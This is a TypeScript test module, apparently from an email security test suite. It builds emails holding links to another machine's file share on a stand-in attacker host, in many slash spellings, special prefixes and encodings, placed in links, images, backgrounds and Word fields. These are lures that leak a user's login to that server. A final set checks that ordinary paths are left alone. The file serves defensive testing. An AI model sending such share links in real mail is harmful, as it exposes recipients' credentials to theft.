/** Shares of other machines in every spelling of their slashes: opening one logs the user on to the server of an attacker. */
import { type Delivered, type MailCase, mailAttack } from './attack-class.ts';
import { unjudgedLink } from './clickable.ts';
import { utf8Mail } from './utf8-mail.ts';

const SLASHES = [
  '\\\\',
  '\\\\\\',
  '\\\\\\\\',
  '//',
  '///',
  '////',
  '\\/',
  '/\\',
  '\\/\\/',
  '/\\\\',
  '\\\\/',
  '//\\\\',
  '/////\\',
];
const BEHIND = ['\\', '/', '\\\\', '//', '\\/'];
const SERVERS = [
  'pay-sender.com',
  '198.51.100.7',
  'files',
  'files@SSL',
  'files@SSL@443',
  'pay-sender.com@8080',
  '[2001:db8::1]',
  'p\u00e4y-sender.com',
  '0xc6336407',
  'pay_sender.com',
];
const SPECIAL = [
  '\\\\?\\UNC\\pay-sender.com\\share',
  '\\\\.\\UNC\\pay-sender.com\\share',
  '//?/UNC/pay-sender.com/share',
  '\\\\files@SSL@443\\DavWWWRoot\\x',
  'file:\\\\pay-sender.com\\share',
  'file:////pay-sender.com/share',
  'file://///pay-sender.com/share',
  'file:/\\pay-sender.com/share',
  'FILE://pay-sender.com/share',
  '\\\\?\\GLOBALROOT\\UNC\\pay-sender.com\\x',
  'smb://pay-sender.com/x',
  '\\\\;LanmanRedirector\\pay-sender.com\\x',
];
const ENCODED = [
  '%5C%5Cpay-sender.com%5Cshare',
  '%5c/pay-sender.com/share',
  '&bsol;&bsol;pay-sender.com&bsol;share',
  '&#92;&#x5c;pay-sender.com&#92;x',
  '\u00a0\\\\pay-sender.com\\x',
  '\\\t\\pay-sender.com\\x',
  '\\\u200b\\pay-sender.com\\x',
  '<\\\\pay-sender.com\\x',
];
const PLACES: readonly (readonly [string, (share: string) => string])[] = [
  ['link', (share) => `<a href="${share}">Files</a>`],
  ['picture', (share) => `<img src="${share}">`],
  ['background', (share) => `<table background="${share}"><tr><td>x</td></tr></table>`],
  [
    'Word field',
    (share) =>
      `<!--[if supportFields]><span style='mso-element:field-begin'></span> INCLUDEPICTURE "${share}" <span style='mso-element:field-end'></span><![endif]-->`,
  ],
];

const escaped = (share: string) => share.replaceAll('<', '&lt;').replaceAll('"', '&quot;');

function* cases(): Generator<MailCase> {
  for (const [index, slashes] of SLASHES.entries())
    for (const [place, write] of PLACES) {
      const share = `${slashes}${SERVERS[index % SERVERS.length]}${BEHIND[index % BEHIND.length]}share`;
      yield {
        id: `${share} ${place}`,
        email: utf8Mail({ html: `<html><body>${write(escaped(share))}</body></html>` }),
      };
    }
  for (const server of SERVERS) {
    yield { id: `link to ${server}`, email: utf8Mail({ html: `<a href="\\\\${server}\\share">Files</a>` }) };
    yield { id: `text with ${server}`, email: utf8Mail({ text: `See \\\\${server}\\share\\x.doc now` }) };
  }
  for (const share of [...SPECIAL, ...SLASHES.slice(0, 3).map((slashes) => `${slashes}pay-sender.com\\share`)]) {
    yield { id: `${share} in a text`, email: utf8Mail({ text: `See ${share} now` }) };
    yield { id: `${share} in a link`, email: utf8Mail({ html: `<a href="${escaped(share)}">Files</a>` }) };
    yield { id: `${share} in a text of a page`, email: utf8Mail({ html: `<p>See ${escaped(share)} now</p>` }) };
  }
  for (const share of ENCODED)
    yield {
      id: `${share} encoded`,
      email: utf8Mail({ html: `<a href="${share.replaceAll('<', '&lt;')}">Files</a>` }),
    };
}

const ORDINARY = [
  'C:\\Users\\ana\\x.txt',
  'D:\\\\x\\\\y',
  'a\\b\\c and x/y/z',
  '\\alpha + \\beta \\\\ \\gamma',
  'and/or, 1/2, //comment, km/h',
  'https://www.good-shop.com//a//b',
  '/usr//lib/x',
];

function* ordinary(): Generator<MailCase> {
  for (const text of ORDINARY) yield { id: text, email: utf8Mail({ text: `See ${text} now` }) };
}

async function judge(_: MailCase, { message, ledger }: Delivered): Promise<string | null> {
  const link = await unjudgedLink(message, ledger);
  return link === null ? null : `${link} can be opened, and nobody judged it`;
}

export const shares = mailAttack({
  name: 'shares',
  title: 'a share of another machine, in a spelling that only some programs take for one',
  cases,
  judge,
  ordinary,
  judgeOrdinary: ({ id }, { message }) =>
    Buffer.from(message).includes(`See ${id} now`) ? null : 'the text was changed',
});
